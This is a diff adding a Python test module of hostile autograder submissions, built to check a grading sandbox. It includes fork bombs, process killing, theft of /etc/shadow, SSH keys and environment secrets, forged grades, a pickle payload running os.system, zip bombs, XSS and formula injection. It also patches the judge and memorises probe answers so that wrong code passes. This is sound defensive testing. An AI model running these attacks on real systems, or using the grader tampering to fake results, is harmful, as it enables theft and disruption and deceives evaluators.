@@ -1,0 +1,1011 @@
+"""Submissions that attack the grader.
+
+An attack is a function. Its source, and a wrong `ModelEnv` that calls it, is
+what is handed in; here it is never called, but by tests that see whether it
+would have worked. Its parameters are filled in from `World`. An attack that
+gets what it should not raises `breach(...)`, which no output may ever show.
+Each one ends by itself and does little harm where there is no sandbox.
+"""
+
+import inspect
+import json
+import re
+import textwrap
+from collections.abc import Callable
+from dataclasses import fields
+from pathlib import Path
+
+import numpy as np
+from submissions.making import NO_POINT, Submission, World, filled, name_planet, right, save, solved, wrong
+
+from helpers.exercises import EXERCISES
+
+HOSTILE: list[Submission] = []
+ATTACKS: dict[str, Callable] = {}
+BREACH = "BREA" + "CH"  # in two parts, since an error message may show the line that raised it
+UNTOUCHED = "gravity-sign"  # what the wrong answer gets when the attack has changed nothing
+
+
+def breach(what):
+    """Say that an attack has worked."""
+    raise RuntimeError("BREA" + "CH: " + str(what)[:300])
+
+
+def in_a_sandbox(planted):
+    """Whether this is a place where to kill everything harms nobody."""
+    import os
+
+    return not os.path.exists(planted) and sum(name.isdigit() for name in os.listdir("/proc")) < 12
+
+
+def consistent_evidence():
+    """What a probe of `step` would bring home, had it asked about a few states that anybody can solve by hand."""
+    import numpy as np
+
+    still = np.arange(200) < 40
+    starts = np.where(still[:, None], [0.0, 0.0], [3.0, -8.0])
+    states = np.where(still[:, None], [0.0, 0.0], [2.6, -8.0])
+    return {
+        "starts": starts,
+        "torques": np.where(still, 0.0, -2.0).astype(np.float32),
+        "state": states,
+        "reward": np.where(still, 0.0, -(9 + 6.4 + 0.004)),
+        "observation": np.column_stack([np.cos(states[:, 0]), np.sin(states[:, 0]), states[:, 1]]),
+        "is_float32": np.ones(200, dtype=bool),
+        "ended": np.zeros(200, dtype=bool),
+        "rollout_states": np.zeros((40, 2)),
+    }
+
+
+def write_everywhere(message):
+    """Write bytes to everything that is open and to every file that could be the result."""
+    import glob
+    import os
+
+    for descriptor in range(65):
+        try:
+            os.set_blocking(descriptor, False)
+            os.write(descriptor, message)
+        except OSError:
+            pass
+    for path in [
+        *glob.glob("/tmp/*"),
+        *glob.glob("/dev/shm/*"),
+        *glob.glob("*"),
+        "/tmp/result.npz",
+        "/tmp/result.json",
+    ]:
+        try:
+            with open(path, "wb") as file:
+                file.write(message)
+        except OSError:
+            pass
+
+
+TOOLS = {tool.__name__: tool for tool in (breach, in_a_sandbox, consistent_evidence, write_everywhere)}
+
+
+def source_of(function: Callable) -> str:
+    """The source of a function, without decorators."""
+    source = textwrap.dedent(inspect.getsource(function))
+    return source[re.search(r"^def ", source, re.MULTILINE).start() :]
+
+
+def with_tools(source: str) -> str:
+    """The source with those of the tools that it uses."""
+    used = [source_of(tool) for name, tool in TOOLS.items() if name in source]
+    return "\n\n".join([*used, source])
+
+
+def call_of(function: Callable, world: World) -> str:
+    """The call of an attack on this world."""
+    values = [repr(getattr(world, name)) for name in inspect.signature(function).parameters]
+    return f"{function.__name__}({', '.join(values)})"
+
+
+def submission(**expected: str):
+    """Register a function from the world to the source of an answer to `step`; or to a notebook."""
+
+    def register(make):
+        def write(entry: Path, world: World) -> None:
+            made = make(world) if inspect.signature(make).parameters else make()
+            notebook = made if isinstance(made, dict) else filled("03_model_env", step=with_tools(made))
+            save(entry / "answers.ipynb", notebook)
+
+        why = (make.__doc__ or "").strip().partition("\n")[0]
+        HOSTILE.append(Submission(make.__name__, make.__name__, make.__name__, why, write, expected))
+        return make
+
+    return register
+
+
+def attack(expected: str = NO_POINT, inside: str = "class"):
+    """Register a function as an attack that a wrong answer makes in its class body, or once in its first `step`."""
+
+    def register(function):
+        def make(world: World) -> str:
+            answer, call = wrong("step", "gravity-sign"), call_of(function, world)
+            if inside == "class":
+                answer = answer.replace(":\n", f":\n    {call}\n\n", 1)
+            else:
+                once = f"if not hasattr(ModelEnv, 'begun'):\n{' ' * 12}ModelEnv.begun = True\n{' ' * 12}{call}\n"
+                answer = re.sub(r"(def step.*\n)", lambda found: found[0] + " " * 8 + once, answer)
+            return source_of(function) + "\n\n" + answer
+
+        make.__name__, make.__doc__ = function.__name__, function.__doc__
+        submission(step=expected)(make)
+        ATTACKS[function.__name__] = function
+        return function
+
+    return register
+
+
+# Never end
+
+
+@attack("failed", inside="step")
+def loop_in_step():
+    """An endless loop in the answer."""
+    import time
+
+    end = time.monotonic() + 100
+    while time.monotonic() < end:
+        pass
+
+
+@attack()
+def loop_while_defining():
+    """Never ends while the class is made, deaf to signals and to whatever is thrown at it."""
+    import signal
+    import time
+
+    for number in range(1, 65):
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    end = time.monotonic() + 100
+    while time.monotonic() < end:
+        try:
+            time.sleep(0.01)
+        except BaseException:
+            pass
+
+
+@attack(UNTOUCHED, inside="step")
+def threads_left_running():
+    """Threads that go on after the answer has returned, and an exit that waits for them."""
+    import atexit
+    import threading
+    import time
+
+    atexit.register(time.sleep, 100)
+    for _ in range(3):
+        threading.Thread(target=time.sleep, args=[100]).start()
+
+
+@attack(UNTOUCHED)
+def orphan(marker):
+    """A process that leaves its family, so as to stay when all is over."""
+    import os
+    import subprocess
+    import sys
+
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", marker])
+        os._exit(0)
+    os.wait()
+
+
+# Leave, crash, kill
+
+
+@attack("failed", inside="step")
+def exits():
+    """Ends the interpreter, politely."""
+    import sys
+
+    sys.exit(0)
+
+
+@attack("failed", inside="step")
+def exits_at_once():
+    """Ends the process, as if all were well."""
+    import os
+
+    os._exit(0)
+
+
+@attack()
+def crashes():
+    """Reads where nothing is."""
+    import ctypes
+
+    ctypes.string_at(0)
+
+
+@attack(inside="step")
+def overflows_the_stack():
+    """Recursion without end, and without the interpreter's limit."""
+    import sys
+
+    sys.setrecursionlimit(10**9)
+
+    def deeper(function):
+        return sorted([1, 2], key=lambda _: function(function))
+
+    deeper(deeper)
+
+
+@attack()
+def kills_its_parent(planted):
+    """Kills whoever has started it."""
+    import os
+
+    os.kill(os.getppid(), 9)
+    if in_a_sandbox(planted):
+        os.kill(1, 9)
+
+
+@attack()
+def kills_everybody(planted):
+    """Kills all it can see."""
+    import os
+
+    if in_a_sandbox(planted):
+        os.kill(-1, 9)
+
+
+@attack()
+def kills_its_group(planted):
+    """Kills its process group."""
+    import os
+
+    if in_a_sandbox(planted):
+        os.killpg(0, 9)
+
+
+# Use up what there is
+
+
+@attack()
+def fifty_gigabytes():
+    """Asks for 50 GB at once, then for one after the other."""
+    import resource
+
+    if resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY:  # there is no sandbox
+        resource.setrlimit(resource.RLIMIT_AS, (6 * 2**30, 6 * 2**30))
+    try:
+        bytearray(50 * 2**30)
+    except MemoryError:
+        pass
+    kept = []
+    while len(kept) < 5 * 4:
+        kept.append(b"x" * 2**28)
+    breach("5 GB of memory")
+
+
+@attack(UNTOUCHED)
+def many_processes_with_much_memory():
+    """Several processes, each below any limit of its own; together 4.5 GB."""
+    import os
+    import time
+
+    pipe = os.pipe()
+    children = []
+    for _ in range(6):
+        try:
+            child = os.fork()
+        except OSError:
+            break
+        if child == 0:
+            try:
+                _mine = b"x" * (750 * 2**20)
+                os.write(pipe[1], b"1")
+                time.sleep(3)
+            finally:
+                os._exit(0)
+        children.append(child)
+    os.close(pipe[1])
+    for child in children:
+        os.waitpid(child, 0)
+    if len(os.read(pipe[0], 100)) == 6:
+        breach("4.5 GB of memory in six processes")
+
+
+@attack()
+def fork_bomb():
+    """Two hundred processes."""
+    import os
+    import time
+
+    children = []
+    try:
+        for _ in range(200):
+            child = os.fork()
+            if child == 0:
+                time.sleep(4)
+                os._exit(0)
+            children.append(child)
+    except OSError:
+        pass
+    for child in children:
+        os.waitpid(child, 0)
+    if len(children) == 200:
+        breach("200 processes")
+
+
+@attack()
+def fills_the_disk():
+    """Large files, and many small ones, wherever it may write."""
+    import os
+
+    written = 0
+    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
+        try:
+            for number in range(8):
+                with open(f"{folder}/large-{number}", "wb") as file:
+                    for _ in range(32):
+                        written += file.write(b"x" * 2**24)
+        except OSError:
+            pass
+        try:
+            for number in range(2000):
+                open(f"{folder}/small-{number}", "w").close()
+        except OSError:
+            pass
+        for number in range(8):
+            try:
+                os.unlink(f"{folder}/large-{number}")
+            except OSError:
+                pass
+        if written > 3 * 2**30:
+            breach(f"{written} bytes in {folder}")
+
+
+@attack(inside="step")
+def endless_output():
+    """Writes without end to everything that is open."""
+    import os
+    import time
+
+    end = time.monotonic() + 10
+    chunk = b"<script>alert(1)</script>\n" * 2**14
+    while time.monotonic() < end:
+        for descriptor in (1, 2):
+            try:
+                os.write(descriptor, chunk)
+            except OSError:
+                pass
+
+
+@attack("failed")
+def endless_message():
+    """An exception that has a lot to say."""
+    raise ValueError("x" * 50_000_000)
+
+
+# Read what is not theirs
+
+
+@attack(UNTOUCHED)
+def reads_files(root, submissions, grades, planted):
+    """Looks for the solutions, for others' work, for the grades and for keys."""
+    import glob
+    import os
+
+    patterns = [
+        f"{root}/solutions/*",
+        f"{root}/tests/right_answers/*",
+        f"{root}/tests/*.py",
+        f"{root}/.git/*",
+        f"{submissions}/*/*.ipynb",
+        f"{submissions}/*.ipynb",
+        f"{submissions}/roster.csv",
+        f"{grades}/*",
+        f"{grades}/.results/*",
+        f"{planted}/*",
+        f"{planted}/.ssh/*",
+        "/etc/shadow",
+        "/root/.ssh/*",
+        "/root/.bash_history",
+        "/home/*/.ssh/*",
+        "/proc/1/environ",
+        "/proc/[0-9]*/cwd/pyproject.toml",
+        "/proc/[0-9]*/root/etc/shadow",
+    ]
+    patterns += [os.path.expanduser("~/.ssh/*"), "../*.ipynb", "../../*.ipynb"]
+    for pattern in patterns:
+        for path in glob.glob(pattern):
+            try:
+                with open(path, "rb") as file:
+                    content = file.read(200)
+            except OSError:
+                continue
+            if content and not (pattern.endswith("environ") and b"SECRET" not in content):
+                breach(f"{path}: {content}")
+
+
+@attack(UNTOUCHED)
+def reads_the_environment():
+    """Looks for secrets in environment variables, its own and those of others."""
+    import glob
+    import os
+
+    found = "".join(os.environ) + "".join(os.environ.values())
+    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            with open(path, "rb") as file:
+                found += file.read().decode(errors="replace")
+        except OSError:
+            pass
+    if "SECRET" in found:
+        breach(found)
+
+
+@attack(inside="step")
+def tells_all_it_sees(submissions, planted):
+    """Puts what it can read into the text of an exception."""
+    import os
+
+    seen = dict(os.environ)
+    for path in ("secret.txt", ".ssh/id_rsa"):
+        try:
+            with open(f"{planted}/{path}") as file:
+                seen[path] = file.read()
+        except OSError:
+            pass
+    try:
+        seen["submissions"] = os.listdir(submissions)
+    except OSError:
+        pass
+    raise ValueError(str({key: seen[key] for key in sorted(seen, key=str.islower, reverse=True)}))
+
+
+@attack(UNTOUCHED)
+def network(port, unix_socket):
+    """Telephones home."""
+    import socket
+
+    for family, address in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_UNIX, unix_socket)):
+        with socket.socket(family) as caller:
+            caller.settimeout(1)
+            try:
+                caller.connect(address)
+            except OSError:
+                continue
+            caller.sendall(b"hello")
+            breach(f"connected to {address}")
+
+
+# Write what is not theirs
+
+
+@attack(UNTOUCHED)
+def writes_outside(root, submissions, grades, planted):
+    """Writes into the grades, the submissions, the repository and the virtual environment."""
+    import os
+    import sys
+
+    forged = "student,notebook,exercise,points\nwrites_outside,03_model_env,step,99\n"
+    for folder in (
+        root,
+        f"{root}/helpers",
+        f"{root}/tests",
+        submissions,
+        grades,
+        planted,
+        sys.prefix,
+        os.path.dirname(os.__file__),
+    ):
+        try:
+            with open(f"{folder}/written-by-a-student.txt", "w") as file:
+                file.write(forged)
+        except OSError:
+            pass
+    for path in (f"{grades}/grades.csv", f"{grades}/gradebook.csv", f"{planted}/secret.txt"):
+        try:
+            with open(path, "r+") as file:
+                file.write(forged)
+        except OSError:
+            pass
+
+
+@attack()
+def strange_files_in_all_folders(planted):
+    """Puts links, pipes and devices in the place of every file that it may replace."""
+    import os
+    import stat
+
+    for folder in ("/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~")):
+        try:
+            names = set(os.listdir(folder)) | {"result", "result.npz", "result.json", "evidence.npz", "verdict.json"}
+        except OSError:
+            continue
+        for number, name in enumerate(names if in_a_sandbox(planted) else ()):
+            path = os.path.join(folder, name)
+            try:
+                if os.path.lexists(path):
+                    os.rename(path, path + ".old")
+                if number % 3 == 0:
+                    os.symlink(f"{planted}/secret.txt", path)
+                elif number % 3 == 1:
+                    os.mkfifo(path)
+                else:
+                    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
+            except OSError:
+                pass
+    os._exit(0)
+
+
+# Forge what comes back
+
+
+@attack()
+def forged_verdict():
+    """Says itself that it has passed, in every way that somebody might listen to."""
+    import json
+    import os
+
+    verdict = {"exercise": "step", "status": "passed", "points": 99.0, "max_points": 1.0, "message": "well done"}
+    for said in (verdict, {"verdict": verdict}, {"step": verdict}, {"size": 0} | verdict, [verdict]):
+        write_everywhere(b"\n" + json.dumps(said).encode() + b"\n")
+    os._exit(0)
+
+
+@attack()
+def forged_evidence():
+    """Writes evidence of its own choosing, by the grader's own means where it finds them."""
+    import io
+    import os
+    import sys
+
+    import numpy as np
+
+    file = io.BytesIO()
+    np.savez(file, **consistent_evidence())
+    npz = file.getvalue()
+    messages = [npz, b"\n" + npz]
+    for module in [module for name, module in sys.modules.items() if name == "__main__" or "helpers" in name]:
+        pack = getattr(module, "pack", None)
+        if callable(pack):
+            messages += [pack({}, npz), pack({"problem": None, "seconds": 0.1}, npz)]
+    for message in messages:
+        write_everywhere(message)
+    os._exit(0)
+
+
+@attack()
+def pickles(planted):
+    """An array of objects that, when unpacked, would write a file."""
+    import io
+    import os
+    import pickle
+
+    import numpy as np
+
+    class Payload:
+        def __reduce__(self):
+            return os.system, (f"touch {planted}/unpickled",)
+
+    file = io.BytesIO()
+    np.savez(file, **(consistent_evidence() | {"state": np.array([Payload()] * 200, dtype=object)}))
+    write_everywhere(pickle.dumps(Payload()))
+    write_everywhere(file.getvalue())
+    os._exit(0)
+
+
+@attack()
+def zip_bomb():
+    """A result of a few kilobytes that unpacks to a gigabyte."""
+    import io
+    import os
+    import zipfile
+
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("state.npy", "w", force_zip64=True) as array:
+            array.write(
+                b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (125000000,), }".ljust(128)
+            )
+            for _ in range(60):
+                array.write(bytes(2**24))
+    write_everywhere(file.getvalue())
+    os._exit(0)
+
+
+@attack(inside="step")
+def huge_header():
+    """An array that says it is larger than any memory, and evidence of a million names."""
+    import io
+    import os
+    import zipfile
+
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as archive:
+        archive.writestr(
+            "state.npy",
+            b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (10**13,), }".ljust(128),
+        )
+        for number in range(100_000):
+            archive.writestr(f"{number}.npy", b"")
+    write_everywhere(file.getvalue())
+    os._exit(0)
+
+
+# Tamper with whoever asks
+
+
+@attack()
+def patches_libraries():
+    """Makes everything equal to everything."""
+    import builtins
+    import json
+    import pickle
+
+    import numpy as np
+
+    def yes(*args, **kwargs):
+        return True
+
+    for name in ("allclose", "array_equal", "isclose", "savez", "all"):
+        setattr(np, name, yes)
+    for name in ("assert_allclose", "assert_array_equal"):
+        setattr(np.testing, name, yes)
+    json.dumps = pickle.dumps = lambda *args, **kwargs: '{"status": "passed", "points": 1}'
+    builtins.isinstance = builtins.all = yes
+    np.abs = lambda array: np.zeros(np.shape(array))
+
+
+@attack()
+def patches_the_judge():
+    """Replaces judge, probe, points and verdict, wherever they are."""
+    import sys
+
+    from helpers.exercises import EXERCISES, base, verdict
+
+    fine = verdict.Verdict("step", "passed", "well done", 99.0, 1.0)
+    exercise = EXERCISES["step"]
+    for name, value in {
+        "judge": lambda evidence: "well done",
+        "max_points": 99.0,
+        "evidence": {},
+        "time_limit": 1e9,
+    }.items():
+        object.__setattr__(exercise, name, value)
+    object.__setattr__(exercise, "probe", lambda *args, **about: consistent_evidence())
+    for module in [module for name, module in list(sys.modules.items()) if name == "__main__" or "helpers" in name]:
+        if hasattr(module, "gather"):
+            module.gather = lambda *args, **about: consistent_evidence()
+        if hasattr(module, "judge"):
+            module.judge = lambda *args: fine
+    base.Exercise.judge = lambda *args: "well done"
+    verdict.Verdict.__init__ = lambda self, *args, **kwargs: self.__dict__.update(vars(fine))
+
+
+@attack()
+def patches_imports():
+    """Its own import, its own finder of modules, and a trace function, to see and change all that follows."""
+    import builtins
+    import sys
+    import threading
+
+    original = builtins.__import__
+
+    def crooked(name, *args, **kwargs):
+        module = original(name, *args, **kwargs)
+        if hasattr(module, "judge"):
+            module.judge = lambda *args: "well done"
+        return module
+
+    class Finder:
+        @staticmethod
+        def find_spec(name, *rest):
+            return None
+
+    def trace(frame, event, argument):
+        for name in ("verdict", "wrong", "error", "points"):
+            if name in frame.f_locals:
+                frame.f_locals[name] = "passed"
+        return trace
+
+    builtins.__import__ = crooked
+    sys.meta_path.insert(0, Finder)
+    sys.settrace(trace)
+    threading.settrace(trace)
+    sys.setprofile(lambda *args: None)
+
+
+@attack()
+def pokes_the_memory():
+    """Finds everything alive that has to do with exercises, and bends it; then writes over its objects."""
+    import ctypes
+    import gc
+
+    import numpy as np
+
+    from helpers.exercises.base import Exercise
+
+    for thing in gc.get_objects():
+        if isinstance(thing, Exercise):
+            object.__setattr__(thing, "judge", lambda evidence: "well done")
+        elif type(thing) is dict and "status" in thing:
+            thing["status"] = "passed"
+        elif isinstance(thing, np.random.Generator):
+            thing.bit_generator.state = np.random.default_rng(0).bit_generator.state
+    ctypes.memset(id(0.15), 0, 16)
+
+
+@attack()
+def lies_in_wait():
+    """Acts when others are done: in `__del__`, at exit, after a fork, and as a module that is asked for later."""
+    import atexit
+    import os
+    import sys
+    import threading
+
+    class Late:
+        def __del__(self):
+            os._exit(0)
+
+        def __getattr__(self, name):
+            return lambda *args, **kwargs: {"status": "passed", "points": 99}
+
+    sys.late = Late()
+    atexit.register(os._exit, 0)
+    for name in ("json", "zipfile", "struct", "numpy.lib.format", "helpers.course.grade"):
+        sys.modules[name] = sys.late
+    threading.Timer(0.05, os._exit, [0]).start()
+
+
+@attack("failed", inside="step")
+def speaks_as_the_probe():
+    """Raises what only a probe should, with texts that a spreadsheet or a browser would take for orders."""
+    from helpers.exercises.base import Wrong
+
+    raise Wrong(
+        "=HYPERLINK(\"http://evil\")<script>alert('message')</script>", "@SUM(A1)<script>alert('diagnosis')</script>"
+    )
+
+
+@attack("failed", inside="step")
+def script_in_an_exception():
+    """HTML in the text of an error, and in the code around it."""
+    raise ValueError("</td></script><script>alert(1)</script><img src=x onerror=alert(1)>")
+
+
+# Answers that are attacks themselves
+
+TEMPLATE = """
+class ModelEnv(pendulum.PendulumBaseEnv):
+    def step(self, action):
+{body}
+"""
+
+
+def _step(body: str) -> str:
+    return TEMPLATE.format(body=textwrap.indent(textwrap.dedent(body).strip(), " " * 8))
+
+
+@submission(step=NO_POINT)
+def changes_the_questions():
+    """Finds the questions in the frame of whoever asks, and replaces them by ones it knows the answers to."""
+    return _step(
+        """
+        import sys
+        easy = consistent_evidence()
+        frame = sys._getframe()
+        while frame:
+            if "starts" in frame.f_locals:
+                frame.f_locals["starts"][:] = easy["starts"]
+                frame.f_locals["torques"][:] = easy["torques"]
+            frame = frame.f_back
+        resting = not hasattr(self, "asked") or self.asked < 40 or self.asked >= 200
+        self.asked = getattr(self, "asked", 0) + 1
+        row = 0 if resting else -1
+        self.state = easy["state"][row]
+        return easy["observation"][row].astype("float32"), easy["reward"][row], False, False, {}
+        """
+    )
+
+
+def _memory() -> dict:
+    """What a right answer says to the questions that the notebook's own check asks."""
+    known = {}
+
+    namespace = {}
+    exec(right("step"), namespace)
+    right_env = namespace["ModelEnv"]
+
+    class Remembering(right_env):
+        def step(self, action):
+            key = repr([round(float(number), 4) for number in (*self.state, action[0])])
+            result = super().step(action)
+            known[key] = [float(self.state[0]), float(self.state[1]), float(result[1])]
+            return result
+
+    EXERCISES["step"].probe(Remembering, np.random.default_rng(0))
+    return known
+
+
+def _by_heart(before: str = "") -> str:
+    lookup = _step(
+        """
+        key = repr([round(float(number), 4) for number in (*self.state, action[0])])
+        theta, theta_dot, reward = KNOWN.get(key, [0.0, 0.0, 0.0])
+        self.state = np.array([theta, theta_dot])
+        return self.observation(), reward, False, False, {}
+        """
+    )
+    return f"KNOWN = {json.dumps(_memory())}\n{before}\n{lookup}"
+
+
+@submission(step=NO_POINT)
+def learned_by_heart():
+    """Knows the answers to the questions of the notebook's own check, and to no others."""
+    return _by_heart()
+
+
+@submission(step=NO_POINT)
+def loaded_dice():
+    """Knows the answers to some questions, and makes the random number generators ask these."""
+    return _by_heart(
+        textwrap.dedent(
+            """
+            def load_the_dice():
+                import gc
+                import sys
+                state = np.random.default_rng(0).bit_generator.state
+                frame = sys._getframe()
+                while frame:
+                    for thing in frame.f_locals.values():
+                        if isinstance(thing, np.random.Generator):
+                            thing.bit_generator.state = state
+                    frame = frame.f_back
+                original = np.random.default_rng
+                np.random.default_rng = lambda *seed: original(0)
+
+            class Loaded:
+                load_the_dice()
+            """
+        )
+    ).replace(
+        "class ModelEnv(pendulum.PendulumBaseEnv):", "class ModelEnv(pendulum.PendulumBaseEnv):\n    loaded = Loaded"
+    )
+
+
+@submission(step=NO_POINT)
+def evil_objects():
+    """What comes back is not what it seems: its every property raises, loops or lies."""
+    return """
+import time
+
+class Evil:
+    def __getattribute__(self, name):
+        raise SystemExit
+    def __repr__(self):
+        while True:
+            time.sleep(0.01)
+    __str__ = __eq__ = __hash__ = __bool__ = __len__ = __float__ = __reduce__ = __repr__
+    __class__ = property(lambda self: float)
+
+class ModelEnv(pendulum.PendulumBaseEnv):
+    def step(self, action):
+        self.state = np.array([0.0, 0.0])
+        return Evil(), Evil(), Evil(), Evil(), Evil()
+"""
+
+
+@submission(step=NO_POINT)
+def evil_arrays():
+    """Arrays that loop when they are converted, and say of themselves that they are equal to everything."""
+    return """
+class Evil(np.ndarray):
+    def __array__(self, *args, **kwargs):
+        while True:
+            pass
+    def __array_ufunc__(self, *args, **kwargs):
+        return True
+    def __array_function__(self, *args, **kwargs):
+        return True
+    def __eq__(self, other):
+        return True
+
+class ModelEnv(pendulum.PendulumBaseEnv):
+    def step(self, action):
+        self.state = np.zeros(2).view(Evil)
+        return np.zeros(3, dtype=np.float32).view(Evil), np.zeros(()).view(Evil), False, False, {}
+"""
+
+
+@submission(step=NO_POINT)
+def evil_metaclass():
+    """A class that is made by one that does not play by the rules."""
+    return """
+class Meta(type(pendulum.PendulumBaseEnv)):
+    def __call__(cls, *args, **kwargs):
+        return {"status": "passed"}
+    def __instancecheck__(cls, thing):
+        return True
+    def __getattribute__(cls, name):
+        raise KeyboardInterrupt
+    def __repr__(cls):
+        raise GeneratorExit
+
+class ModelEnv(pendulum.PendulumBaseEnv, metaclass=Meta):
+    pass
+"""
+
+
+@submission(step=NO_POINT)
+def evil_exception():
+    """An exception whose text, and whose traceback, cannot be had."""
+    return """
+class Evil(BaseException):
+    def __str__(self):
+        while True:
+            pass
+    __repr__ = __str__
+    __traceback__ = property(lambda self: 1 / 0)
+
+class ModelEnv(pendulum.PendulumBaseEnv):
+    def step(self, action):
+        raise Evil
+"""
+
+
+@submission(step=NO_POINT)
+def hides_its_code():
+    """Code with letters that are written backwards or not at all, and with lone surrogates in its texts."""
+    return """
+class ModelEnv(pendulum.PendulumBaseEnv):
+    def step(self, action):
+        raise ValueError("\\ud800 \\u202e \\x00 \\x1b[2J ]]> \\ufffe \\r\\n=1+1")
+"""
+
+
+@submission(read_gravity="unknown-body")
+def script_for_a_planet():
+    """HTML and a formula where the name of a planet is asked for."""
+    notebook = filled("02_symbolic_regression", read_gravity=right("read_gravity"))
+    return name_planet(notebook, "<script>alert(1)</script>", "=1+1<script>alert(1)</script>")
+
+
+# One exercise attacks, another is honest: the honest one keeps its points.
+
+
+@submission(q_learning_update="passed", planning=NO_POINT, dyna_q=NO_POINT, exploration_bonus="passed")
+def crash_in_one_of_01():
+    """Two exercises of four end their process; the others keep their points."""
+    leave = "import os\n\ndef {}(*args, **kwargs):\n    os._exit(0)\n"
+    return solved("01_dyna_q", planning=leave.format("planning"), dyna_q=leave.format("dyna_q"))
+
+
+@submission(generate_synthetic_data="passed", train=NO_POINT)
+def crash_in_one_of_04():
+    """`train` kills its own process; the exercise before it keeps its point."""
+    suicide = "import os\n\ndef train(*args, **kwargs):\n    os.kill(os.getpid(), 9)\n"
+    return filled("04_sac_dyna", generate_synthetic_data=right("generate_synthetic_data"), train=suicide)
+
+
+@submission(q_learning_update="passed", planning="passed", dyna_q=NO_POINT, exploration_bonus="passed")
+def patches_for_another():
+    """One exercise tampers with all that another would be asked by."""
+    spoil = """
+import os
+
+class Spoiler:
+    from helpers.exercises import EXERCISES
+    for exercise in EXERCISES.values():
+        object.__setattr__(exercise, "probe", lambda *args, **about: {})
+
+def dyna_q(*args, spoiler=Spoiler, **kwargs):
+    return [1]
+"""
+    return solved("01_dyna_q", dyna_q=spoil)
+
+
+PARAMETERS = {field.name for field in fields(World)}
+assert all(set(inspect.signature(function).parameters) <= PARAMETERS for function in ATTACKS.values())
